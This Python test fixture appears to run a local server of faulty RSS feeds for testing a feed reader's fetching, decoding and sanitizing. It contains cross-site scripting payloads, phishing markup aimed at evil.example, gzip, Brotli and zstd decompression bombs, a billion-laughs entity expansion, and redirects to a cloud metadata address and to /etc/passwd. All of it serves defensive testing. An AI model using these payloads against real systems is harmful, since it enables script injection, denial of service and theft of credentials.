"""A site on which everything goes wrong: broken, hostile and merely odd feeds, one to an address."""

from __future__ import annotations

import gzip
import itertools
import struct
import threading
import zlib
from collections.abc import Iterable, Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from functools import cache
from html import escape

from tests.sites.server import Page, RequestHandler, Route, SiteServer, http_date

RSS = "application/rss+xml"
# What the dates of this site mean unless it is the date that is wrong.
INSTANT = datetime(2024, 11, 15, 3, 36, 16, tzinfo=UTC)
GOOD_ITEMS = 5
MANY_ITEMS = 20_000
DEEP_DIVS = 5_000
HUGE_BYTES = 200_000_000
# What the bombs come to once unpacked, give or take the few bytes around the filling.
BOMB_BYTES = 1100 * 2**20
# Seconds before /hang closes the connection by itself.
PATIENCE = 60.0

_DATE = http_date(INSTANT)
_UTF8 = '<?xml version="1.0" encoding="UTF-8"?>\n'
_NAMESPACES = ' xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:dc="http://purl.org/dc/elements/1.1/"'


@dataclass(frozen=True)
class OddDate:
    """A date as an item of /bad-dates writes it; the item has `form` for its title.

    `instant` is what it means where the feed's own time zone is Asia/Shanghai, None if nothing.
    """

    form: str
    written: str | None
    instant: datetime | None


BAD_DATES = (
    OddDate("RFC 822 with EST", "Thu, 14 Nov 2024 22:36:16 EST", INSTANT),
    OddDate("RFC 822 with a two-digit year", "Fri, 15 Nov 24 03:36:16 GMT", INSTANT),
    OddDate("ISO 8601 without a zone", "2024-11-15T11:36:16", INSTANT),
    OddDate("Chinese", "2024年11月15日 11:36", INSTANT.replace(second=0)),
    OddDate("missing", None, None),
    OddDate("far future", "Tue, 01 Jan 2199 00:00:00 GMT", datetime(2199, 1, 1, tzinfo=UTC)),
    OddDate("not a number", "NaN", None),
    OddDate("epoch milliseconds", str(int(INSTANT.timestamp()) * 1000), INSTANT),
)

XSS_HTML = """
<p onclick="alert(1)" style="background:url(javascript:alert(2))">The harmless words stay.</p>
<script>alert(3)</script><style>body { display: none }</style>
<img src="x" onerror="alert(4)"><img src="javascript:alert(5)">
<a href="javascript:alert(6)">one</a> <a href=" Java&#9;Script:alert(7)">two</a>
<a href="data:text/html,<script>alert(8)</script>">three</a> <a href="vbscript:x">four</a>
<svg onload="alert(9)"><a xlink:href="javascript:alert(10)"><text>svg</text></a></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(11)></style></mglyph></table></mtext></math>
<iframe src="https://evil.example/"></iframe><object data="x.swf"></object><embed src="x.swf">
<form action="https://evil.example/"><input name="password"><button>Log in</button></form>
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
<!--[if IE]><script>alert(12)</script><![endif]-->
<p>The last words stay too.</p>
"""


class FaultySite(SiteServer):
    """Serves every fault below; `retry_after` is the wait, in seconds, that /429-* and /503-* ask for."""

    def __init__(self, *, retry_after: int = 120, port: int = 0) -> None:
        super().__init__(_pages(), port=port)
        self._retry_after = retry_after
        self._flaky_lock = threading.Lock()
        self._flaky_calls = 0
        self.pages |= {
            # A plain 429 and a plain 503, with Retry-After in seconds.
            "/429-seconds": _status(429, {"Retry-After": str(retry_after)}),
            "/503-retry-after": _status(503, {"Retry-After": str(retry_after)}),
            "/503-date": self._busy_until,
            "/flaky": self._flaky,
        }

    def reset_flaky(self) -> None:
        """Let /flaky fail twice again."""
        with self._flaky_lock:
            self._flaky_calls = 0

    def _flaky(self, handler: RequestHandler) -> None:
        """/flaky: 500 twice, the feed from then on."""
        with self._flaky_lock:
            self._flaky_calls += 1
            call = self._flaky_calls
        handler.send_page(_status(500) if call <= 2 else GOOD_FEED)

    def _busy_until(self, handler: RequestHandler) -> None:
        """/503-date: 503 with Retry-After as a date."""
        until = datetime.now(UTC) + timedelta(seconds=self._retry_after)
        handler.send_page(_status(503, {"Retry-After": http_date(until)}))


def _item(number: int, *, title: str = "", date: str | None = _DATE, content: str = "") -> str:
    dated = "" if date is None else f"<pubDate>{date}</pubDate>"
    encoded = f"<content:encoded><![CDATA[{content}]]></content:encoded>" if content else ""
    return (
        f"<item><title>{title or f'Notice {number}'}</title>"
        f"<link>https://notices.example/{number}.html</link><guid>https://notices.example/{number}.html</guid>"
        f"{dated}<description>Notice {number}: the slipway is closed for painting.</description>"
        f"{encoded}</item>\n"
    )


def _rss(items: Iterable[str], *, prolog: str = _UTF8, namespaces: str = _NAMESPACES) -> str:
    return f"{_head(prolog, namespaces)}{''.join(items)}{_TAIL}"


def _head(prolog: str = _UTF8, namespaces: str = _NAMESPACES) -> str:
    return (
        f'{prolog}<rss version="2.0"{namespaces}><channel><title>Harbour notices</title>'
        "<link>https://notices.example/</link><description>Notices to mariners</description>\n"
    )


_TAIL = "</channel></rss>\n"
GOOD_FEED = Page(_rss(_item(number) for number in range(1, GOOD_ITEMS + 1)).encode(), RSS)


def _pages() -> dict[str, Route]:
    feed = GOOD_FEED.body
    twice = gzip.compress(gzip.compress(feed, mtime=0), mtime=0)
    return {
        # A small, good feed of five items.
        "/feed": GOOD_FEED,
        # An HTML page where a feed was expected.
        "/html": Page(b"<!DOCTYPE html><title>Parked</title><p>This domain is for sale.", "text/html"),
        # Elements with a prefix that is declared nowhere: a reader of RSS finds no item.
        "/undeclared-prefix": Page(
            feed.replace(b"<item>", b"<rss:item>")
            .replace(b"</item>", b"</rss:item>")
            .replace(b"<channel>", b"<rss:channel>")
            .replace(b"</channel>", b"</rss:channel>"),
            RSS,
        ),
        # 200 and not a byte.
        "/empty": Page(b"", RSS),
        # Content-Length promises the whole feed; half of it comes, then the connection closes.
        "/cut": Page(feed[: len(feed) // 2], RSS, headers={"Content-Length": str(len(feed)), "Connection": "close"}),
        "/cut-silently": _cut_silently,
        "/huge": _huge,
        "/gzip-bomb": _gzip_bomb,
        "/br-bomb": _br_bomb,
        "/zstd-bomb": _zstd_bomb,
        # Packed twice, while Content-Encoding owns up to one layer only.
        "/zip-of-zip": Page(twice, RSS, headers={"Content-Encoding": "gzip"}),
        # Packed twice, as Content-Encoding says.
        "/gzip-gzip": Page(twice, RSS, headers={"Content-Encoding": "gzip, gzip"}),
        # Content-Encoding says gzip, but the body is plain.
        "/not-gzip": Page(feed, RSS, headers={"Content-Encoding": "gzip"}),
        # Plain failures.
        "/404": _status(404),
        "/410": _status(410),
        "/500": _status(500),
        "/hang": _hang,
        "/slow": _slow,
        # Redirects that never arrive, by one address and by two.
        "/loop": _redirect("/loop"),
        "/loop-a": _redirect("/loop-b"),
        "/loop-b": _redirect("/loop-a"),
        # Redirects that do arrive: for good, and for now.
        "/moved": _redirect("/feed", 301),
        "/found": _redirect("/feed"),
        # Redirects to where a fetcher must not go.
        "/to-private": _redirect("http://169.254.169.254/latest/"),
        "/to-file": _redirect("file:///etc/passwd"),
        **_encodings(
            "latin1", "ISO-8859-1", "Le café du port rouvre à Évora", "Été, forêt, garçon: ouvert dès huit heures."
        ),
        **_encodings("gb18030", "GB18030", "港口咖啡馆重新开张", "船坞今日油漆，𠮷田先生请改走北门。"),
        **_encodings("utf16", "UTF-16", "港のカフェ、再び開店", "Смола, Čerň, 油漆 and 😀"),
        # Entities that expand to three thousand million words ("billion laughs"), then a good item.
        "/entities": Page(_laughs().encode(), RSS),
        # An item whose HTML nests 5,000 divs, then a good one.
        "/deep": Page(_rss([_item(1, content=_nested()), _item(2)]).encode(), RSS),
        # An item full of script; its title is one as well.
        "/xss": Page(_rss([_item(1, title=escape("<script>alert(0)</script>Hello"), content=XSS_HTML)]).encode(), RSS),
        "/many": _many,
        # NUL and other control characters, raw and as references, in three items; a clean one follows.
        "/nul": Page(_controls(), RSS),
        # content:encoded, dc:creator and media:content, with no xmlns for any of them.
        "/undeclared-namespace": Page(_undeclared().encode(), RSS),
        # One item per odd form of date, see BAD_DATES.
        "/bad-dates": Page(_dates().encode(), RSS),
    }


def _status(status: int, headers: dict[str, str] | None = None) -> Page:
    return Page(f"{status}\n".encode(), "text/plain", status=status, headers=headers or {})


def _redirect(location: str, status: int = 302) -> Page:
    return _status(status, {"Location": location})


def _cut_silently(handler: RequestHandler) -> None:
    """/cut-silently: no length, and the connection closes in the middle of the third of five items."""
    handler.send_head(200, {"Content-Type": RSS, "Connection": "close", "ETag": '"cut"'})
    body = GOOD_FEED.body
    handler.send_body(body[: body.index(b"Notice 3:") + len(b"Notice 3: the sl")])


def _hang(handler: RequestHandler) -> None:
    """/hang: not a byte of an answer for a minute, then the connection closes."""
    handler.site.closing.wait(PATIENCE)
    handler.close_connection = True


def _slow(handler: RequestHandler) -> None:
    """/slow: the feed at a byte every 0.2 s, and blanks from then on."""
    handler.send_head(200, {"Content-Type": RSS, "Connection": "close"})
    for byte in itertools.chain(GOOD_FEED.body, itertools.repeat(ord(" "))):
        handler.send_body(bytes([byte]))
        if handler.command == "HEAD" or handler.site.closing.wait(0.2):
            break


def _many(handler: RequestHandler) -> None:
    """/many: 20,000 good items."""
    handler.send_page(_many_page())


@cache
def _many_page() -> Page:
    return Page(_rss(_item(number) for number in range(1, MANY_ITEMS + 1)).encode(), RSS)


def _huge(handler: RequestHandler) -> None:
    """/huge: 200 MB of good RSS in items of 64 kB, in chunks, never in memory as a whole."""
    handler.send_chunks(_huge_chunks(), {"Content-Type": RSS})


def _huge_chunks() -> Iterator[bytes]:
    content = "<p>The slipway is closed for painting. Please use the north gate.</p>" * 900
    sent = 0
    yield _head().encode()
    for number in itertools.count(1):
        item = _item(number, content=content).encode()
        yield item
        sent += len(item)
        if sent >= HUGE_BYTES:
            break
    yield _TAIL.encode()


_MIB = 2**20


def _gzip_bomb(handler: RequestHandler) -> None:
    """/gzip-bomb: 1.1 MB of gzip that unpack to 1.1 GB of blanks inside a feed."""
    handler.send_chunks(_gzip_bomb_chunks(), {"Content-Type": RSS, "Content-Encoding": "gzip"})


def _gzip_bomb_chunks() -> Iterator[bytes]:
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    head, tail = _head().encode(), _TAIL.encode()
    filling = b" " * _MIB
    count = BOMB_BYTES // _MIB
    yield b"\x1f\x8b\x08\0\0\0\0\0\0\xff" + packer.compress(head) + packer.flush(zlib.Z_FULL_FLUSH)
    # After a full flush a block refers to nothing before it, so one may be sent any number of times.
    packed = packer.compress(filling) + packer.flush(zlib.Z_FULL_FLUSH)
    checksum = zlib.crc32(head)
    for _ in range(count):
        yield packed
        checksum = zlib.crc32(filling, checksum)
    length = len(head) + count * len(filling) + len(tail)
    yield packer.compress(tail) + packer.flush() + struct.pack("<LL", zlib.crc32(tail, checksum), length % 2**32)


# A Brotli stream cut at its flushes: the opening of a feed, 1 MiB of "<item><title>again</title></item>"
# lines, the feed's end. The standard library cannot write one.
_BR_HEAD = bytes.fromhex(
    "0b6f000044ddd65fd2433b98c70ea628180487e00deae4f87c40ab96a5119640220126a0b98d2dc754c4f01635e4d7f6"
    "ee65d6c9f706acc12b69b8554ab4240e378296ab1f8da762c5b0de14abf91c447c5019"
)
_BR_FILLING = bytes.fromhex("7aff7f002400e2b00054ef1f0c")
_BR_TAIL = bytes.fromhex("8000083c2f6368616e6e656c3e3c2f7273733e0a03")


def _br_bomb(handler: RequestHandler) -> None:
    """/br-bomb: 14 kB of Brotli that unpack to 1.1 GB of RSS items."""
    body = _BR_HEAD + _BR_FILLING * (BOMB_BYTES // _MIB) + _BR_TAIL
    handler.send_page(Page(body, RSS, headers={"Content-Encoding": "br"}))


def _zstd_bomb(handler: RequestHandler) -> None:
    """/zstd-bomb: 35 kB of Zstandard that unpack to 1.1 GB of blanks inside a feed."""
    # RFC 8878: magic number, a frame header with a window of 128 KiB, then raw and run-length blocks.
    blank = _zstd_block(kind=1, size=2**17, data=b" ")
    head, tail = _head().encode(), _TAIL.encode()
    body = (
        b"\x28\xb5\x2f\xfd\x00\x38"
        + _zstd_block(kind=0, size=len(head), data=head)
        + blank * (BOMB_BYTES // 2**17)
        + _zstd_block(kind=0, size=len(tail), data=tail, last=True)
    )
    handler.send_page(Page(body, RSS, headers={"Content-Encoding": "zstd"}))


def _zstd_block(*, kind: int, size: int, data: bytes, last: bool = False) -> bytes:
    return (size << 3 | kind << 1 | last).to_bytes(3, "little") + data


def _encodings(name: str, charset: str, title: str, text: str) -> dict[str, Route]:
    """/NAME, /NAME-header and /NAME-undeclared: the encoding given in the XML, in the header, nowhere."""
    items = [_item(1, title=title, content=f"<p>{text}</p>"), _item(2)]
    plain = '<?xml version="1.0"?>\n'
    declared = f'<?xml version="1.0" encoding="{charset}"?>\n'
    undeclared = _rss(items, prolog=plain).encode(charset)
    return {
        f"/{name}": Page(_rss(items, prolog=declared).encode(charset), RSS),
        f"/{name}-header": Page(undeclared, f"{RSS}; charset={charset}"),
        f"/{name}-undeclared": Page(undeclared, RSS),
    }


def _laughs() -> str:
    entities = '<!ENTITY lol0 "lol">\n'
    for level in range(1, 10):
        entities += f'<!ENTITY lol{level} "{f"&lol{level - 1};" * 10}">\n'
    prolog = f"{_UTF8}<!DOCTYPE rss [\n{entities}]>\n"
    return _rss([_item(1, title="&lol9;"), _item(2)], prolog=prolog)


def _nested() -> str:
    return "<div>" * DEEP_DIVS + "The middle of it all." + "</div>" * DEEP_DIVS


def _controls() -> bytes:
    raw = "".join(chr(code) for code in range(0x20) if chr(code) not in "\t\n\r")
    references = "".join(f"&#{code};" for code in (0, 7, 8, 0x1F, 0xFFFE))
    items = [
        _item(1, title="A nul\0 in the middle"),
        _item(2, title=f"Controls {raw}in a row", content=f"<p>And {raw}here</p>"),
        _item(3, title=f"References {references}to them"),
        _item(4),
    ]
    return _rss(items).encode()


def _undeclared() -> str:
    extra = (
        '<dc:creator>Oda Brandt</dc:creator><media:content url="https://notices.example/1.jpg" medium="image"/></item>'
    )
    item = _item(1, content="<p>The whole notice.</p>").replace("</item>", extra)
    return _rss([item, _item(2)], namespaces="")


def _dates() -> str:
    return _rss(_item(number, title=odd.form, date=odd.written) for number, odd in enumerate(BAD_DATES, start=1))
